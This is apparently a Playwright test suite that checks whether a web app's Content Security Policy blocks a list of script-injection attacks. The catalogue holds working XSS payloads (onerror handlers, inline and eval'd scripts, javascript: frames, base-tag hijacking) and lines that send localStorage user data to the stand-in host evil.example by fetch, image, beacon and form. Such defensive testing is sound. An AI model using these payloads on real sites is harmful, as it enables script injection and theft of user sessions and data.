import type { Page } from '@playwright/test';
import { openAs, SAFFRON } from './page.ts';
import { expect, test } from './test.ts';

const EVIL = 'http://evil.example';

declare global {
  interface Window {
    /** The names of the attacks that succeeded in the page. */
    attacked?: string[];
  }
}

/** Attacks by code that already runs in the page. */
const SCRIPT_ATTACKS: Record<string, () => unknown> = {
  innerHTML: () => {
    const parent = document.body.appendChild(document.createElement('div'));
    parent.innerHTML = `<img src="/none" onerror="(window.attacked ??= []).push('innerHTML')">`;
  },
  'inline handler': () => {
    const button = document.body.appendChild(document.createElement('button'));
    button.setAttribute('onclick', "(window.attacked ??= []).push('inline handler')");
    button.click();
  },
  'inline script': () => {
    const script = document.createElement('script');
    script.text = "(window.attacked ??= []).push('inline script')";
    document.head.append(script);
  },
  'foreign script': () => {
    const script = document.createElement('script');
    script.src = 'http://evil.example/foreign script';
    document.head.append(script);
  },
  'uploaded file': () => {
    const script = document.createElement('script');
    script.src = '/uploads/uploaded file';
    document.head.append(script);
  },
  // In a timer, because code that Playwright evaluates may use eval despite the policy.
  eval: () =>
    setTimeout(() => {
      // biome-ignore lint/security/noGlobalEval: the attack itself
      eval("(window.attacked ??= []).push('eval')");
    }),
  srcdoc: () => {
    const frame = document.createElement('iframe');
    frame.srcdoc = `<script>(parent.attacked ??= []).push('srcdoc')</script>`;
    document.body.append(frame);
  },
  'foreign module': () => import('http://evil.example/foreign module' as string),
  'secret by fetch': () => fetch(`http://evil.example/secret by fetch?${localStorage.user}`),
  'secret by image': () => {
    new Image().src = `http://evil.example/secret by image?${localStorage.user}`;
  },
  'secret by beacon': () =>
    navigator.sendBeacon('http://evil.example/secret by beacon', localStorage.user),
  'secret by form': () => {
    const frame = Object.assign(document.createElement('iframe'), { name: 'target' });
    const form = document.createElement('form');
    Object.assign(form, { action: 'http://evil.example/secret by form', target: 'target' });
    document.body.append(frame, form);
    form.submit();
  },
};

/** Attacks by markup that a flaw in the server writes into the page. */
const MARKUP_ATTACKS: Record<string, string> = {
  'script element': `<script>(window.attacked ??= []).push('script element')</script>`,
  'handler attribute': `<img src="/none" onerror="(window.attacked ??= []).push('handler attribute')">`,
  'foreign script element': `<script src="${EVIL}/foreign script element"></script>`,
  'javascript: address': `<iframe src="javascript:(parent.attacked ??= []).push('javascript: address')"></iframe>`,
  'foreign frame': `<iframe src="${EVIL}/foreign frame"></iframe>`,
  'foreign style sheet': `<link rel="stylesheet" href="${EVIL}/foreign style sheet">`,
  'style element': `<style>body { background: url("${EVIL}/style element") }</style>`,
  'style attribute': `<p style='background: url("${EVIL}/style attribute")'>.</p>`,
  'other base': `<base href="${EVIL}/"><script src="other base"></script>`,
};

/**
 * Serves the page, with or without its policy, and the attacker's site. Returns a function that finds the attacks that
 * reached that site or ran in the page.
 */
async function serve(page: Page, hasPolicy: boolean, body = '') {
  const reached = new Set<string>();
  await page.route(/\/(login|transactions)$/, async (route) => {
    if (!route.request().isNavigationRequest()) return route.fallback();
    const response = await route.fetch();
    const headers = response.headers();
    if (!hasPolicy) delete headers['content-security-policy'];
    const html = (await response.text()).replace('</body>', `${body}</body>`);
    await route.fulfill({ response, headers, body: html });
  });
  // The attacker's site, and files that somebody else could put on the page's own origin.
  await page.route(new RegExp(`^${EVIL}/|/uploads/`), (route) => {
    const path = new URL(route.request().url()).pathname;
    reached.add(decodeURIComponent(path.split('/').at(-1) ?? ''));
    const headers = { 'access-control-allow-origin': '*' };
    return route.fulfill({ contentType: 'text/javascript', body: '', headers });
  });
  return async () => [...(await page.evaluate(() => window.attacked ?? [])), ...reached];
}

/** Removes the browser's messages about blocked attacks; all other errors fail the test. */
function takeBlocked(consoleErrors: string[]) {
  const others = consoleErrors.filter((text) => !BLOCKED.test(text));
  consoleErrors.splice(0, consoleErrors.length, ...others);
}

const BLOCKED = new RegExp(
  [
    'Content Security Policy|violates the following|Blocked by |TrustedHTML|TrustedScript|Failed to fetch',
    // As the other base is blocked, this address returns the page itself, which is not a script.
    'Refused to execute script from .*other%20base',
    // From storeSession of page.ts, in a frame that was blocked.
    "Failed to read the 'sessionStorage' property",
  ].join('|'),
);

async function attackByScript(page: Page, hasPolicy: boolean, consoleErrors: string[]) {
  const findSuccessful = await serve(page, hasPolicy);
  await openAs(page, SAFFRON);
  for (const [name, run] of Object.entries(SCRIPT_ATTACKS)) {
    const before = consoleErrors.length;
    await page.evaluate(run).catch(() => {});
    if (hasPolicy) await expect.poll(() => consoleErrors.length, name).toBeGreaterThan(before);
  }
  return findSuccessful;
}

async function attackByMarkup(page: Page, hasPolicy: boolean, consoleErrors: string[]) {
  const findSuccessful = await serve(page, hasPolicy, Object.values(MARKUP_ATTACKS).join('\n'));
  await page.goto('/login');
  await expect(page.getByRole('button', { name: 'Sign In' })).toBeVisible();
  const count = hasPolicy ? Object.keys(MARKUP_ATTACKS).length : 0;
  await expect.poll(() => consoleErrors.length).toBeGreaterThanOrEqual(count);
  return findSuccessful;
}

for (const [what, attack, attacks] of [
  ['script', attackByScript, SCRIPT_ATTACKS],
  ['markup', attackByMarkup, MARKUP_ATTACKS],
] as const) {
  test(`attacks by ${what} succeed without the policy, and are blocked by it`, async ({
    page,
    consoleErrors,
  }) => {
    const findWithout = await attack(page, false, consoleErrors);
    await expect.poll(findWithout).toEqual(expect.arrayContaining(Object.keys(attacks)));
    takeBlocked(consoleErrors);
    await page.unrouteAll();

    const findWith = await attack(page, true, consoleErrors);
    expect(await findWith()).toEqual([]);
    // A blocked load is reported twice, the second time a moment later.
    await page.goto('about:blank');
    takeBlocked(consoleErrors);
  });
}
